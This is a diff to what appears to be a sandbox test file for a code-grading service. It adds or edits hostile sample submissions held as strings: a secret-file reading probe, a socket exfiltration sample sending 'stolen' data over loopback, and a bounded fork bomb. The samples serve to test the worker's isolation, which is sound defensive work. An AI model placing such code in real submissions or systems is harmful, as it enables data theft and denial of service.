@@ -149,10 +149,29 @@ class Encoder(nn.Module):
                 else:
                     with open(path, "rb") as handle:
                         size = len(handle.read())
-                report.append(f"LEAKED {label} ({size})")
+                # In the worker's namespaces a secret is masked: an empty folder or an empty file.
+                report.append(f"LEAKED {label} ({size})" if size else f"EMPTY {label}")
             except OSError as error:
                 report.append(f"DENIED {label} ({type(error).__name__})")
         raise RuntimeError("READ REPORT: " + "; ".join(report))
+"""
+
+# Sends what it can over the machine's loopback (to a listener the test opens, standing for another grade's
+# process or a collaborator), and reports whether the connection was made.
+EXFILTRATE = """
+import socket
+
+
+class Encoder(nn.Module):
+    def __init__(self, in_channels=3):
+        super().__init__()
+        try:
+            with socket.create_connection(("127.0.0.1", __PORT__), timeout=5) as connection:
+                connection.sendall(b"STOLEN notebook of another student")
+            outcome = "SENT over the loopback"
+        except OSError as error:
+            outcome = f"NO NETWORK ({type(error).__name__})"
+        raise RuntimeError("EXFILTRATION REPORT: " + outcome)
 """
 
 # Subclassing the reference Encoder: through the grader's own package (importable from the worker, whose
@@ -358,8 +377,9 @@ class Encoder(nn.Module):
         raise NotImplementedError
 """
 
-# Forks without end (each child becomes `sleep 3600`, so that forking a process holding torch copies no
-# memory), at most __LIMIT__ times; the pids go to __LOG__.
+# Forks without end (each child becomes `sleep 3600 __TAG__`, so that forking a process holding torch copies no
+# memory, and the test can find survivors by their command line), at most __LIMIT__ times; the pids go to __LOG__
+# (which the worker's namespaces may hide: survivors are then found by their tag).
 FORK_BOMB = """
 import os
 
@@ -371,7 +391,7 @@ def _fork_many(limit, log):
             pid = os.fork()
             if pid == 0:
                 try:
-                    os.execv("/bin/sleep", ["sleep", "3600"])
+                    os.execv("/bin/sleep", ["sleep", "3600", __TAG__])
                 finally:
                     os._exit(127)
             children.append(pid)
@@ -379,8 +399,11 @@ def _fork_many(limit, log):
         outcome = f"FORK-LIMIT reached after {len(children)} children ({type(error).__name__})"
     else:
         outcome = f"FORK-UNLIMITED: {len(children)} children"
-    with open(log, "w") as handle:
-        handle.write(" ".join(str(pid) for pid in children))
+    try:
+        with open(log, "w") as handle:
+            handle.write(" ".join(str(pid) for pid in children))
+    except OSError:  # out of the worker's sight in its namespaces
+        pass
     return outcome
 
 
